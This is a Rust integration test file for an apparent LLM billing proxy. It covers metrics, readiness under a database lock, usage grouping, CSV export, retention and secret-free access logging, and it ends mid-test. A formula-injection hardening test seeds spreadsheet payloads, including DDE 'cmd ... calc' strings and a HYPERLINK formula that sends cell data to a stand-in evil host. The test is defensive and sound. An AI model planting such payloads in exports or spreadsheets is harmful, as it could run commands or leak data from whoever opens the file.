//! Operations (issue 7): Prometheus metrics, health and readiness (including
//! a database that refuses writes), `/usage` grouping checked against the
//! records, CSV export, retention, and the access log of the binary.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use common::*;
use http::{Method, Request};
use serde_json::Value;

const DAY: i64 = 86_400_000;

/// Dollars (as JSON text) to pico-dollars.
fn pico(s: &str) -> i128 {
    tollgate::pricing::parse_scaled(s, 12)
        .unwrap_or_else(|e| panic!("bad cost {s}: {e:?}"))
        .into()
}

fn unquote(raw: &str) -> String {
    serde_json::from_str::<String>(raw).unwrap_or_else(|_| panic!("not a JSON string: {raw}"))
}

/// A mock answering chat requests for `model` with these tokens, an
/// `x-request-id` and upstream rate-limit headers; model `no-usage` gets an
/// answer without usage, model `bad` a 400.
async fn ops_mock(t: Tok) -> Mock {
    Mock::start(move |seen| {
        let model = seen.json()["model"].as_str().unwrap_or("x").to_owned();
        let reply = match model.as_str() {
            "bad" => Reply::json(
                r#"{"error":{"message":"bad model","type":"invalid_request_error","param":"model","code":null}}"#,
            )
            .status(400),
            "no-usage" => Reply::json(
                r#"{"id":"c1","object":"chat.completion","model":"no-usage","choices":[{"index":0,"message":{"role":"assistant","content":"hello there friend"},"finish_reason":"stop"}]}"#,
            ),
            _ => Reply::json(completion(&model, "ok", t)),
        };
        reply
            .header("x-request-id", &format!("req-{}", seen.n))
            .header("x-ratelimit-limit-requests", "5000")
            .header("x-ratelimit-remaining-requests", &(4999 - seen.n).to_string())
            .header("x-ratelimit-limit-tokens", "160000")
            .header("x-ratelimit-remaining-tokens", "150000")
            .header("x-ratelimit-reset-requests", "12ms")
            .header("x-ratelimit-reset-tokens", "1s")
    })
    .await
}

async fn metrics_of(p: &Proxy) -> (Resp, Vec<Sample>) {
    let r = p.get("/metrics").await;
    assert_eq!(r.status, 200, "{}", r.text());
    let s = parse_metrics(&r.text());
    (r, s)
}

fn value(s: &[Sample], name: &str, labels: &[(&str, &str)]) -> f64 {
    metric(s, name, labels).unwrap_or_else(|| {
        let near: Vec<String> = s
            .iter()
            .filter(|x| x.name == name)
            .map(|x| format!("{:?} {}", x.labels, x.value))
            .collect();
        panic!("no sample {name} {labels:?}; have {near:?}")
    })
}

// ---------------------------------------------------------------------------
// Metrics.
// ---------------------------------------------------------------------------

/// After a few requests `/metrics` counts them exactly as the records say:
/// requests by endpoint/model/status, tokens by user/model/kind, cost by
/// user/model, histogram counts, estimated records, in-flight requests,
/// queue depth, upstream rate-limit headroom. Health and metrics requests
/// are not usage.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_match_the_records() {
    let t = Tok {
        prompt: 100,
        completion: 20,
        cached: 30,
        reasoning: 5,
    };
    let mock = ops_mock(t).await;
    let p = Proxy::start(&mock.url()).await;
    let r = p
        .set_price(
            "gpt-m",
            r#"{"validFrom":"2020-01-01T00:00:00Z","per1MQueryTokens":1,"per1MCachedQueryTokens":0.5,"per1MAnswerTokens":2}"#,
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    // Before any request: no request samples, nothing in flight.
    let (r, s) = metrics_of(&p).await;
    assert_eq!(
        r.header("content-type").as_deref(),
        Some("application/openmetrics-text; version=1.0.0; charset=utf-8")
    );
    assert!(r.text().ends_with("# EOF\n"), "{}", r.text());
    assert!(s.iter().all(|x| x.name != "tollgate_requests_total"));
    assert_eq!(value(&s, "tollgate_in_flight_requests", &[]), 0.0);

    for (user, model) in [
        ("alice", "gpt-m"),
        ("alice", "gpt-m"),
        ("bob", "gpt-m"),
        ("alice", "bad"),
        ("carol", "no-usage"),
    ] {
        let r = p.chat(user, &chat_body(model, false)).await;
        assert!(r.status == 200 || r.status == 400, "{}", r.text());
    }
    for path in ["/healthz", "/readyz", "/metrics"] {
        assert_eq!(p.get(path).await.status, 200);
    }
    let recs = p.wait_records(5).await;
    assert_eq!(recs.len(), 5, "health and metrics are not usage");
    p.state.store.flush().await;
    let (_, s) = metrics_of(&p).await;

    // Exact figures of the priced requests: (100-30)*1 + 30*0.5 + 20*2 per 1M.
    let ep = "/v1/chat/completions";
    let req = |model: &str, status: &str| {
        value(
            &s,
            "tollgate_requests_total",
            &[("endpoint", ep), ("model", model), ("status", status)],
        )
    };
    assert_eq!(req("gpt-m", "200"), 3.0);
    assert_eq!(req("bad", "400"), 1.0);
    assert_eq!(req("no-usage", "200"), 1.0);
    let tok = |user: &str, kind: &str| {
        value(
            &s,
            "tollgate_tokens_total",
            &[("user", user), ("model", "gpt-m"), ("kind", kind)],
        )
    };
    assert_eq!(tok("alice", "query"), 200.0);
    assert_eq!(tok("alice", "answer"), 40.0);
    assert_eq!(tok("alice", "cached"), 60.0);
    assert_eq!(tok("alice", "reasoning"), 10.0);
    assert_eq!(tok("bob", "query"), 100.0);
    let cost = |user: &str| {
        value(
            &s,
            "tollgate_cost_dollars_total",
            &[("user", user), ("model", "gpt-m")],
        )
    };
    assert!(
        (cost("alice") - 0.000250).abs() < 1e-12,
        "{}",
        cost("alice")
    );
    assert!((cost("bob") - 0.000125).abs() < 1e-12, "{}", cost("bob"));

    // Every figure agrees with the records.
    let rows = p.queries_raw("").await;
    let mut by_req: BTreeMap<(String, String, String), f64> = BTreeMap::new();
    let mut tokens: BTreeMap<(String, String, &str), f64> = BTreeMap::new();
    let mut costs: BTreeMap<(String, String), i128> = BTreeMap::new();
    for r in &rows {
        let (user, model) = (unquote(&r["user"]), unquote(&r["model"]));
        *by_req
            .entry((unquote(&r["endpoint"]), model.clone(), r["status"].clone()))
            .or_default() += 1.0;
        for (kind, field) in [
            ("query", "queryTokens"),
            ("answer", "answerTokens"),
            ("cached", "cachedQueryTokens"),
            ("reasoning", "reasoningTokens"),
        ] {
            let n: f64 = r[field].parse().unwrap();
            if n > 0.0 {
                *tokens
                    .entry((user.clone(), model.clone(), kind))
                    .or_default() += n;
            }
        }
        *costs.entry((user, model)).or_default() += pico(&r["cost"]);
    }
    for ((e, m, st), n) in &by_req {
        assert_eq!(req_of(&s, e, m, st), *n, "{e} {m} {st}");
    }
    assert_eq!(
        s.iter()
            .filter(|x| x.name == "tollgate_requests_total")
            .count(),
        by_req.len()
    );
    for ((u, m, k), n) in &tokens {
        assert_eq!(
            value(
                &s,
                "tollgate_tokens_total",
                &[("user", u), ("model", m), ("kind", k)]
            ),
            *n
        );
    }
    assert_eq!(
        s.iter()
            .filter(|x| x.name == "tollgate_tokens_total")
            .count(),
        tokens.len()
    );
    for ((u, m), c) in costs.iter().filter(|(_, c)| **c > 0) {
        let v = value(
            &s,
            "tollgate_cost_dollars_total",
            &[("user", u), ("model", m)],
        );
        assert!((v - *c as f64 / 1e12).abs() < 1e-12, "{u} {m}: {v}");
    }
    let n = rows.len() as f64;
    let estimated = rows.iter().filter(|r| r["estimated"] == "true").count() as f64;
    assert!(estimated >= 1.0, "the answer without usage is estimated");
    assert_eq!(
        value(&s, "tollgate_estimated_records_total", &[]),
        estimated
    );
    assert_eq!(value(&s, "tollgate_request_duration_seconds_count", &[]), n);
    assert_eq!(value(&s, "tollgate_overhead_seconds_count", &[]), n);
    let ttfb = rows.iter().filter(|r| r["ttfbMs"] != "null").count() as f64;
    assert_eq!(value(&s, "tollgate_upstream_ttfb_seconds_count", &[]), ttfb);
    assert_eq!(value(&s, "tollgate_writer_batch_size_sum", &[]), n);
    assert!(value(&s, "tollgate_writer_commit_seconds_count", &[]) >= 1.0);
    assert_eq!(value(&s, "tollgate_writer_errors_total", &[]), 0.0);
    assert_eq!(value(&s, "tollgate_in_flight_requests", &[]), 0.0);
    assert_eq!(value(&s, "tollgate_writer_queue_depth", &[]), 0.0);
    // The latest answer's headers (the fifth request: 4999 - 4).
    let rl = |name: &str, limit: &str| value(&s, name, &[("limit", limit)]);
    assert_eq!(
        rl("tollgate_upstream_ratelimit_remaining", "requests"),
        4995.0
    );
    assert_eq!(
        rl("tollgate_upstream_ratelimit_remaining", "tokens"),
        150000.0
    );
    assert_eq!(rl("tollgate_upstream_ratelimit_limit", "requests"), 5000.0);
    assert_eq!(rl("tollgate_upstream_ratelimit_limit", "tokens"), 160000.0);
    assert!(s
        .iter()
        .all(|x| x.name != "tollgate_rejected_requests_total"));
}

fn req_of(s: &[Sample], endpoint: &str, model: &str, status: &str) -> f64 {
    value(
        s,
        "tollgate_requests_total",
        &[("endpoint", endpoint), ("model", model), ("status", status)],
    )
}

/// `tollgate_in_flight_requests` counts requests inside the proxy.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_flight_gauge_follows_requests() {
    let gate = Gate::new();
    let g = gate.clone();
    let mock = Mock::start(move |_| {
        Reply::json(completion("gpt-m", "ok", Tok::new(1, 1))).head_after(g.clone())
    })
    .await;
    let p = Proxy::start(&mock.url()).await;
    let mut held = Vec::new();
    for _ in 0..3 {
        let addr = p.addr;
        held.push(tokio::spawn(async move {
            send(addr, chat_req("alice", &chat_body("gpt-m", false))).await
        }));
    }
    mock.wait_seen(3).await;
    let (_, s) = metrics_of(&p).await;
    assert_eq!(value(&s, "tollgate_in_flight_requests", &[]), 3.0);
    gate.open();
    for t in held {
        assert_eq!(within("answer", t).await.unwrap().status, 200);
    }
    eventually("in-flight back to 0", STEP, || async {
        let (_, s) = metrics_of(&p).await;
        (value(&s, "tollgate_in_flight_requests", &[]) == 0.0).then_some(())
    })
    .await;
}

// ---------------------------------------------------------------------------
// Health and readiness.
// ---------------------------------------------------------------------------

/// `/healthz` and `/readyz` answer without the admin key and are never
/// recorded. While another connection holds the database's write lock the
/// writer cannot commit: `/readyz` turns 503 (alive still 200), records are
/// held (queue depth, write errors), and once the lock goes every record
/// written meanwhile is there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn readyz_reports_a_database_that_refuses_writes() {
    let mock = ops_mock(Tok::new(10, 2)).await;
    let p = Proxy::builder(&mock.url()).admin("ops-admin").start().await;
    for path in ["/healthz", "/readyz"] {
        let r = send(p.addr, get(path)).await;
        assert_eq!(r.status, 200, "{path}");
        assert_eq!(
            r.header("content-type").as_deref(),
            Some("application/json")
        );
    }
    assert_eq!(
        send(p.addr, get("/readyz")).await.text(),
        r#"{"status":"ready"}"#
    );
    let r = send(p.addr, Request::post("/healthz").body(empty()).unwrap()).await;
    assert_eq!(r.status, 405);
    assert_eq!(
        p.chat("alice", &chat_body("gpt-m", false)).await.status,
        200
    );
    p.wait_records(1).await;

    let lock = WriteLock::take(&p.db);
    for _ in 0..3 {
        assert_eq!(
            p.chat("alice", &chat_body("gpt-m", false)).await.status,
            200
        );
    }
    let why = eventually("readyz turns 503", STEP, || async {
        let r = send(p.addr, get("/readyz")).await;
        (r.status == 503).then(|| r.json())
    })
    .await;
    assert_eq!(why["status"], "unready");
    assert!(
        why["reason"].as_str().unwrap().contains("database"),
        "{why}"
    );
    assert_eq!(
        send(p.addr, get("/healthz")).await.status,
        200,
        "still alive"
    );
    let (_, s) = metrics_of(&p).await;
    assert!(value(&s, "tollgate_writer_errors_total", &[]) >= 1.0);
    eventually("the three records are held", STEP, || async {
        let (_, s) = metrics_of(&p).await;
        (value(&s, "tollgate_writer_queue_depth", &[]) == 3.0).then_some(())
    })
    .await;

    lock.release();
    eventually("readyz back to 200", STEP, || async {
        (send(p.addr, get("/readyz")).await.status == 200).then_some(())
    })
    .await;
    let recs = p.wait_records(4).await;
    assert_eq!(
        recs.len(),
        4,
        "every record held while the lock lasted is written"
    );
    let ids: BTreeSet<String> = recs
        .iter()
        .map(|r| r["requestId"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(ids.len(), 4);
    assert_eq!(p.usage("").await["numQueries"], 4);
    let (_, s) = metrics_of(&p).await;
    assert_eq!(value(&s, "tollgate_writer_queue_depth", &[]), 0.0);
    assert_eq!(
        req_of(&s, "/v1/chat/completions", "gpt-m", "200"),
        4.0,
        "counted once each, after the write"
    );
}

// ---------------------------------------------------------------------------
// Reports.
// ---------------------------------------------------------------------------

/// Midnight UTC, 2024-01-30: the seeds span the end of January and the
/// start of February.
const JAN30: i64 = 19_752 * DAY;

fn group_seeds() -> Vec<Seed> {
    let users = ["alice", "bob", "a,\"b"];
    let models = ["m1", "m2"];
    let mut rows = Vec::new();
    for i in 0..60i64 {
        let priced = i % 9 != 4;
        rows.push(Seed {
            ts: JAN30 + (i % 4) * DAY + (i * 7_919_000) % DAY,
            user: users[(i % 3) as usize].to_owned(),
            model: models[((i / 3) % 2) as usize].to_owned(),
            query: 50 + i,
            answer: 5 + i % 11,
            cached: i % 6,
            reasoning: i % 3,
            cost: if priced { 1_000_007 * (i + 3) } else { 0 },
            priced,
        });
    }
    rows
}

/// Every combination of `group_by` keys, with and without filters: each row
/// carries exactly its keys and the totals of the records with those values
/// (computed here from `/queries`), rows are sorted by key, and the rows
/// together add up to the ungrouped `/usage`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn usage_group_by_agrees_with_queries() {
    let mock = ops_mock(Tok::new(40, 9)).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("t.db");
    seed_db(&mock.url(), &db, &group_seeds()).await;
    let p = Proxy::builder(&mock.url()).db(&db).start().await;
    p.set_price(
        "m1",
        r#"{"validFrom":"2024-06-01T00:00:00Z","per1KQueryTokens":0.001,"per1KAnswerTokens":0.003}"#,
    )
    .await;
    for user in ["alice", "carol", "a,\"b"] {
        assert_eq!(p.chat(user, &chat_body("m1", false)).await.status, 200);
    }
    assert_eq!(p.chat("carol", &chat_body("m2", false)).await.status, 200);
    let all = p.queries_raw("").await;
    assert_eq!(all.len(), 64);

    let keys = ["user", "model", "day", "month"];
    let fields = [
        "numQueries",
        "queryTokens",
        "answerTokens",
        "cost",
        "averageCostPerQuery",
        "cachedQueryTokens",
        "reasoningTokens",
        "unpricedQueries",
        "rejectedQueries",
    ];
    let key_of = |r: &BTreeMap<String, String>, k: &str| -> String {
        let ts = unquote(&r["timestamp"]);
        match k {
            "user" => unquote(&r["user"]),
            "model" => unquote(&r["model"]),
            "day" => ts[..10].to_owned(),
            "month" => ts[..7].to_owned(),
            _ => unreachable!(),
        }
    };
    for filter in ["", "user=alice", "model=m1", "user=a%2C%22b&model=m2"] {
        let total = p.usage_raw(filter).await;
        for mask in 1..16u32 {
            let group: Vec<&str> = (0..4)
                .filter(|i| mask & (1 << i) != 0)
                .map(|i| keys[i])
                .collect();
            let q = format!("group_by={}&{filter}", group.join(","));
            let r = p.get(&format!("/usage?{q}")).await;
            assert_eq!(r.status, 200, "{q}: {}", r.text());
            let got = raw_array(&r.text());

            // Expected groups from the records.
            let rows: Vec<&BTreeMap<String, String>> = all
                .iter()
                .filter(|r| {
                    filter.split('&').filter(|f| !f.is_empty()).all(|f| {
                        let (k, v) = f.split_once('=').unwrap();
                        let v = v.replace("%2C", ",").replace("%22", "\"");
                        key_of(r, k) == v
                    })
                })
                .collect();
            let mut want: BTreeMap<Vec<String>, Vec<&BTreeMap<String, String>>> = BTreeMap::new();
            for r in &rows {
                let k: Vec<String> = group.iter().map(|g| key_of(r, g)).collect();
                want.entry(k).or_default().push(r);
            }
            assert_eq!(got.len(), want.len(), "{q}");
            let mut seen_keys = Vec::new();
            let mut sum = [0i128; 7];
            for row in &got {
                let mut names: Vec<&str> = row.keys().map(String::as_str).collect();
                names.sort_unstable();
                let mut expect_names: Vec<&str> = group.iter().copied().chain(fields).collect();
                expect_names.sort_unstable();
                assert_eq!(names, expect_names, "{q}");
                let k: Vec<String> = group.iter().map(|g| unquote(&row[*g])).collect();
                let recs = want
                    .get(&k)
                    .unwrap_or_else(|| panic!("{q}: unexpected group {k:?}"));
                let n = recs.len() as i128;
                let s =
                    |f: &str| -> i128 { recs.iter().map(|r| r[f].parse::<i128>().unwrap()).sum() };
                let cost: i128 = recs.iter().map(|r| pico(&r["cost"])).sum();
                let unpriced = recs.iter().filter(|r| r["priced"] == "false").count() as i128;
                assert_eq!(row["numQueries"], n.to_string(), "{q} {k:?}");
                assert_eq!(
                    row["queryTokens"],
                    s("queryTokens").to_string(),
                    "{q} {k:?}"
                );
                assert_eq!(
                    row["answerTokens"],
                    s("answerTokens").to_string(),
                    "{q} {k:?}"
                );
                assert_eq!(row["cachedQueryTokens"], s("cachedQueryTokens").to_string());
                assert_eq!(row["reasoningTokens"], s("reasoningTokens").to_string());
                assert_eq!(row["cost"], dollars(cost), "{q} {k:?}");
                assert_eq!(row["averageCostPerQuery"], dollars((cost + n / 2) / n));
                assert_eq!(row["unpricedQueries"], unpriced.to_string());
                assert_eq!(row["rejectedQueries"], "0");
                for (i, f) in [
                    "numQueries",
                    "queryTokens",
                    "answerTokens",
                    "cachedQueryTokens",
                    "reasoningTokens",
                    "unpricedQueries",
                ]
                .iter()
                .enumerate()
                {
                    sum[i] += row[*f].parse::<i128>().unwrap();
                }
                sum[6] += pico(&row["cost"]);
                seen_keys.push(k);
            }
            // Sorted by key, in the order user, model, day, month.
            let mut sorted = seen_keys.clone();
            sorted.sort();
            assert_eq!(seen_keys, sorted, "{q}: rows sorted by key");
            for (i, f) in [
                "numQueries",
                "queryTokens",
                "answerTokens",
                "cachedQueryTokens",
                "reasoningTokens",
                "unpricedQueries",
            ]
            .iter()
            .enumerate()
            {
                assert_eq!(sum[i].to_string(), total[*f], "{q}: sum of {f}");
            }
            assert_eq!(dollars(sum[6]), total["cost"], "{q}: sum of cost");
        }
    }
    // Months seen: both seeded months and today's.
    let months = p.get_json("/usage?group_by=month").await;
    let m: Vec<&str> = months
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["month"].as_str().unwrap())
        .collect();
    assert_eq!(&m[..2], ["2024-01", "2024-02"]);
    for bad in ["group_by=week", "group_by=user,hour"] {
        let r = p.get(&format!("/usage?{bad}")).await;
        assert_openai_error(&r, 400, "invalid_request_error", Some("group_by"), None);
    }
    assert_eq!(p.get("/usage?group_by=").await.status, 200);
}

/// Splits RFC 4180 CSV text into records of fields.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    chars.next();
                    field.push('"');
                } else {
                    quoted = false;
                }
            } else {
                field.push(c);
            }
            continue;
        }
        match c {
            '"' => {
                assert!(field.is_empty(), "quote inside an unquoted field: {text}");
                quoted = true;
            }
            ',' => row.push(std::mem::take(&mut field)),
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            '\n' => panic!("record ended by a bare LF: {text:?}"),
            c => field.push(c),
        }
    }
    assert!(!quoted, "unterminated quote");
    assert!(
        field.is_empty() && row.is_empty(),
        "last record without CRLF"
    );
    rows
}

/// `/queries?format=csv`: a header row with the JSON field names in order,
/// then one row per record equal to the JSON (strings unquoted, `null`
/// empty), fields with commas, quotes or line breaks quoted (RFC 4180), same
/// filters as JSON.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn queries_csv_matches_json() {
    let mock = Mock::start(|seen| {
        let model = seen.json()["model"].as_str().unwrap().to_owned();
        Reply::json(completion(&model, "ok", Tok::new(7, 3))).header("x-request-id", "req,\"1\"")
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("t.db");
    let seeds = [Seed {
        ts: JAN30,
        user: "multi\nline".into(),
        model: "m,odel".into(),
        query: 1,
        answer: 2,
        cached: 0,
        reasoning: 0,
        cost: 1_500_000_000,
        priced: true,
    }];
    seed_db(&mock.url(), &db, &seeds).await;
    let p = Proxy::builder(&mock.url()).db(&db).start().await;
    let r = p.get("/queries?format=csv&user=nobody").await;
    assert_eq!(r.status, 200);
    assert_eq!(
        r.header("content-type").as_deref(),
        Some("text/csv; charset=utf-8")
    );
    let header = "id,user,model,requestedModel,endpoint,timestamp,queryTokens,answerTokens,cachedQueryTokens,reasoningTokens,cost,priced,estimated,status,stream,durationMs,ttfbMs,requestId,audioQueryTokens,audioAnswerTokens,serviceTier,inputCost,cachedInputCost,outputCost,audioInputCost,audioOutputCost,tierRates,tierAdjustment,clientAborted,tags,upstream,imageQueryTokens,imageAnswerTokens,imageInputCost,imageOutputCost,toolCost,units,customId,project\r\n";
    assert_eq!(r.text(), header, "only the header without records");

    for user in ["a,\"b", "alice", "a,\"b"] {
        assert_eq!(p.chat(user, &chat_body("gpt-x", false)).await.status, 200);
    }
    let json = p.queries_raw("").await;
    assert_eq!(json.len(), 4);
    // The CSV header follows the order of the JSON fields.
    let first = p.get("/queries?limit=1").await.text();
    let names: Vec<&str> = header.trim_end().split(',').collect();
    let at: Vec<usize> = names
        .iter()
        .map(|n| {
            first
                .find(&format!("\"{n}\":"))
                .unwrap_or_else(|| panic!("{n}"))
        })
        .collect();
    assert!(at.windows(2).all(|w| w[0] < w[1]), "{first}");
    let r = p.get("/queries?format=csv").await;
    let text = r.text();
    assert!(text.contains(r#","a,""b","#), "{text}");
    assert!(text.contains("\"multi\nline\",\"m,odel\""), "{text}");
    assert!(text.contains(r#","req,""1"""#), "{text}");
    let rows = parse_csv(&text);
    assert_eq!(rows[0], names);
    assert_eq!(rows.len(), 1 + json.len());
    for (csv, j) in rows[1..].iter().zip(&json) {
        assert_eq!(csv.len(), names.len(), "{csv:?}");
        let jkeys: Vec<&str> = j.keys().map(String::as_str).collect();
        let mut sorted_names = names.clone();
        sorted_names.sort_unstable();
        assert_eq!(jkeys, sorted_names, "same fields in CSV and JSON");
        for (name, field) in names.iter().zip(csv) {
            let raw = &j[*name];
            let want = if raw == "null" {
                String::new()
            } else if *name == "tags" {
                // CSV writes the tag object as its canonical list.
                let m: serde_json::Map<String, serde_json::Value> =
                    serde_json::from_str(raw).unwrap();
                m.iter()
                    .map(|(k, v)| match v.as_str().unwrap() {
                        "" => k.clone(),
                        v => format!("{k}={v}"),
                    })
                    .collect::<Vec<_>>()
                    .join(",")
            } else if raw.starts_with('"') {
                unquote(raw)
            } else {
                raw.clone()
            };
            assert_eq!(field, &want, "{name}");
        }
    }
    // Same filters and paging as JSON.
    for q in [
        "user=a%2C%22b",
        "user=a%2C%22b&limit=1&offset=1",
        "model=m%2Codel",
        "limit=2",
    ] {
        let j = p.queries_raw(q).await;
        let c = parse_csv(&p.get(&format!("/queries?format=csv&{q}")).await.text());
        assert_eq!(c.len(), j.len() + 1, "{q}");
        for (row, j) in c[1..].iter().zip(&j) {
            assert_eq!(row[0], j["id"], "{q}");
        }
    }
    let j = p.queries_raw("format=json").await;
    assert_eq!(j, json);
    let r = p.get("/queries?format=xml").await;
    assert_openai_error(&r, 400, "invalid_request_error", Some("format"), None);
    let r = p.get("/usage?format=csv").await;
    assert_openai_error(&r, 400, "invalid_request_error", Some("format"), None);
}

/// CSV formula injection (hardening 12): text fields (user, models,
/// endpoint, request id) starting with `=`, `+`, `-`, `@`, tab or carriage
/// return are exported with a leading `'` (OWASP), so a spreadsheet shows
/// them as text instead of evaluating them; JSON keeps them as they are.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn queries_csv_never_starts_a_field_with_a_formula() {
    let mock = Mock::start(|seen| {
        let model = seen.json()["model"].as_str().unwrap().to_owned();
        Reply::json(completion(&model, "ok", Tok::new(7, 3))).header("x-request-id", "=1+1")
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("t.db");
    // Values no live request can carry (control characters) are seeded.
    let seed = |user: &str, model: &str| Seed {
        ts: JAN30,
        user: user.into(),
        model: model.into(),
        query: 1,
        answer: 2,
        cached: 0,
        reasoning: 0,
        cost: 1_000,
        priced: true,
    };
    let seeds = [
        seed("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
        seed("\t=1+2", "\r=1+2"),
        seed("-1", "@m"),
        seed("safe'user", "gpt-4o"),
    ];
    seed_db(&mock.url(), &db, &seeds).await;
    let p = Proxy::builder(&mock.url()).db(&db).start().await;
    let user = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    let model = "+cmd|' /C calc'!A0";
    assert_eq!(p.chat(user, &chat_body(model, false)).await.status, 200);
    let json = p.queries_raw("").await;
    assert_eq!(json.len(), 5);
    assert_eq!(unquote(&json[4]["user"]), user, "JSON keeps the value");
    assert_eq!(unquote(&json[4]["model"]), model);
    let text = p.get("/queries?format=csv").await.text();
    let rows = parse_csv(&text);
    assert_eq!(rows.len(), 6);
    let names = rows[0].clone();
    let risky = |s: &str| s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let mut neutralised = 0;
    for (row, j) in rows[1..].iter().zip(&json) {
        for (name, field) in names.iter().zip(row) {
            assert!(!risky(field), "{name} starts a formula: {field:?}");
            let raw = &j[name.as_str()];
            if !raw.starts_with('"') {
                continue;
            }
            let v = unquote(raw);
            if risky(&v) {
                assert_eq!(field, &format!("'{v}"), "{name}");
                neutralised += 1;
            } else {
                assert_eq!(field, &v, "{name}: other values are unchanged");
            }
        }
    }
    // users, models and requested models of the risky records, and the live
    // record's request id.
    assert_eq!(neutralised, 3 * 3 + 3 + 1);
    assert!(
        text.contains(r#"'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#),
        "{text}"
    );
}

/// `--retain-days 1`: records older than a day leave `/queries` (in
/// batches, over several thousand), newer ones stay, and `/usage` over all
/// time, per day and per month is unchanged: the rollups are kept.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retention_deletes_old_records_and_keeps_totals() {
    let mock = ops_mock(Tok::new(40, 9)).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("t.db");
    let now = now_ms();
    let mut seeds = Vec::new();
    let seed = |ts: i64, i: i64| Seed {
        ts,
        user: format!("u{}", i % 4),
        model: format!("m{}", i % 3),
        query: 10 + i % 17,
        answer: 1 + i % 5,
        cached: i % 2,
        reasoning: 0,
        cost: 1_000_000 + i,
        priced: true,
    };
    // Old: 12,000 records two to three days back, 50 forty days back.
    for i in 0..12_000 {
        seeds.push(seed(now - 2 * DAY - (i * 7) % DAY, i));
    }
    for i in 0..50 {
        seeds.push(seed(now - 40 * DAY - i * 1000, i));
    }
    // Recent: within the last hour.
    for i in 0..20 {
        seeds.push(seed(now - 3_600_000 + i * 1000, i));
    }
    seed_db(&mock.url(), &db, &seeds).await;
    // The totals before retention, from a server without it.
    let reports = [
        "",
        "group_by=day",
        "group_by=month",
        "group_by=user,model",
        "user=u1",
    ];
    let mut before = Vec::new();
    {
        let mut p = Proxy::builder(&mock.url()).db(&db).start().await;
        assert_eq!(p.queries("limit=100000").await.len(), seeds.len());
        for q in reports {
            before.push(p.get(&format!("/usage?{q}")).await.text());
        }
        p.stop().await;
    }
    let p = Proxy::builder(&mock.url())
        .db(&db)
        .retain_days(1)
        .start()
        .await;
    let cutoff = tollgate::timestamp::format_ms(now - DAY);
    eventually("old records deleted", STEP, || async {
        let r = p
            .get_json(&format!("/queries?before={cutoff}&limit=1"))
            .await;
        (r.as_array().unwrap().is_empty()).then_some(())
    })
    .await;
    let left = p.queries("").await;
    assert_eq!(left.len(), 20, "the recent records stay");
    assert!(left
        .iter()
        .all(|r| ts_ms(&r["timestamp"]) >= now - 3_600_000));
    for (q, b) in reports.iter().zip(&before) {
        assert_eq!(&p.get(&format!("/usage?{q}")).await.text(), b, "/usage?{q}");
    }
    // New records are still written (and not deleted).
    assert_eq!(p.chat("u9", &chat_body("gpt-m", false)).await.status, 200);
    assert_eq!(p.wait_records(21).await.len(), 21);
}

// ---------------------------------------------------------------------------
// The access log.
// ---------------------------------------------------------------------------

/// One access line per request (user, endpoint, model, status, tokens, cost,
/// durations, upstream request id) in JSON or text, and never the prompt or
/// answer text, the upstream key, the admin key or a user key, valid or not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn access_log_has_one_line_per_request_and_no_secrets() {
    const PROMPT: &str = "PURPLE-ELEPHANT-4711 my secret prompt";
    const ANSWER: &str = "ANSWER-TEXT-8812";
    const UPSTREAM: &str = "sk-upstream-LOGCHECK-93f1";
    const ADMIN: &str = "admin-LOGCHECK-77aa";
    const BAD_KEY: &str = "tg-NotARealKeyButSecretAnyway123";
    let mock = Mock::start(|seen| {
        Reply::json(completion("gpt-m", ANSWER, Tok::new(42, 7)))
            .header("x-request-id", &format!("req-log-{}", seen.n))
    })
    .await;
    for (i, format) in ["json", "text"].into_iter().enumerate() {
        // One upstream request per run.
        let request_id = format!("req-log-{i}");
        let dir = tempfile::tempdir().unwrap();
        let db = dir.path().join("t.db");
        let mut bin = spawn_logged(
            &[
                "--upstream",
                &mock.url(),
                "--db",
                db.to_str().unwrap(),
                "--log-format",
                format,
                "--auth",
                "keys",
            ],
            &[
                ("TOLLGATE_UPSTREAM_TOKEN", UPSTREAM),
                ("TOLLGATE_ADMIN_TOKEN", ADMIN),
            ],
        );
        let r = send(
            bin.addr,
            Request::post("/users/alice/keys")
                .header("authorization", format!("Bearer {ADMIN}"))
                .body(empty())
                .unwrap(),
        )
        .await;
        assert_eq!(r.status, 201, "{}", r.text());
        let key = r.json()["key"].as_str().unwrap().to_owned();
        let body =
            format!(r#"{{"model":"gpt-m","messages":[{{"role":"user","content":"{PROMPT}"}}]}}"#);
        let chat = |auth: String| {
            Request::post("/v1/chat/completions")
                .header("content-type", "application/json")
                .header("authorization", auth)
                .body(full(body.clone()))
                .unwrap()
        };
        let r = send(bin.addr, chat(format!("Bearer {key}"))).await;
        assert_eq!(r.status, 200, "{}", r.text());
        assert!(r.text().contains(ANSWER));
        let r = send(bin.addr, chat(format!("Bearer {BAD_KEY}"))).await;
        assert_eq!(r.status, 401);
        let r = send(
            bin.addr,
            Request::get("/usage")
